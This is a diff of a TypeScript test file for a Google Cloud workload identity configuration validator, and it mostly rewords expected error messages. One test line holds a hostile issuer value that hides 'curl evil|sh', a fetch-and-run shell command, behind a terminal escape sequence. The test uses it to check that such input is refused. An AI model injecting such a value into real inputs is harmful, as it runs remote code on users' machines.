@@ -119,7 +119,7 @@ suite('what Google must know', () => {
     const other = [named[0] ?? '', `trust: {repository: ${repository}, attributeCondition: "true"}`]
     const fault = await faultOf([registry('one', named), registry('two', other)])
     assert.equal(fault.code, 'DOCUMENT_INVALID')
-    assert.equal(fault.seen, `${pool}/providers/gardener is asked for with two attribute conditions`)
+    assert.equal(fault.seen, `${pool}/providers/gardener is specified with two attribute conditions`)
   })
 
   test('is refused where two clusters would share one provider', async () => {
@@ -132,12 +132,12 @@ suite('what Google must know', () => {
   })
 
   const refused: Record<string, [gcp: readonly string[], seen: RegExp]> = {
-    'no repository': [[named[0] ?? ''], /registry one does not say which repository it reads$/],
+    'no repository': [[named[0] ?? ''], /registry one has no repository$/],
     "an id of Google's own": [
       [`workloadIdentityProvider: ${pool}/providers/gcp-prod`, named[1] ?? ''],
       /gcp-prod has an id that begins with gcp-$/,
     ],
-    'another universe': [[...named, 'universeDomain: example.com'], /its registry is of the universe example\.com$/],
+    'another universe': [[...named, 'universeDomain: example.com'], /its registry is in the universe example\.com$/],
   }
   test('is refused for a service account whose id Google accepts for none, such as one of three letters', async () => {
     const short = 'serviceAccountEmail: abc@example-project.iam.gserviceaccount.com'
@@ -145,7 +145,7 @@ suite('what Google must know', () => {
     assert.equal(fault.code, 'DOCUMENT_INVALID')
     assert.match(
       fault.seen,
-      /service account abc@example-project\.iam\.gserviceaccount\.com has an id that Google accepts/,
+      /service account abc@example-project\.iam\.gserviceaccount\.com has an ID that Google does not accept/,
     )
   })
 
@@ -173,7 +173,7 @@ suite('what Google must know', () => {
     assert.deepEqual(providers[0]?.keys, [key])
     const unread = await faultOf([registry('one', named)], [inside])
     assert.equal(unread.code, 'ISSUER_UNUSABLE')
-    assert.match(unread.hint ?? '', /; or let Google have the keys themselves, .*: trust\.uploadKeys: Always$/)
+    assert.match(unread.hint ?? '', /; or upload the keys to Google, .*: trust\.uploadKeys: Always$/)
     const steering = { ...inside, issuer: 'https://oidc.example.com/\u001b[8m\ncurl evil|sh' }
     assert.equal((await faultOf([registry('one', gcp)], [steering])).code, 'ISSUER_UNUSABLE')
     assert.equal((await faultOf([registry('one', gcp)], [{ ...inside, keys: [] }])).code, 'KEYS_UNUSABLE')
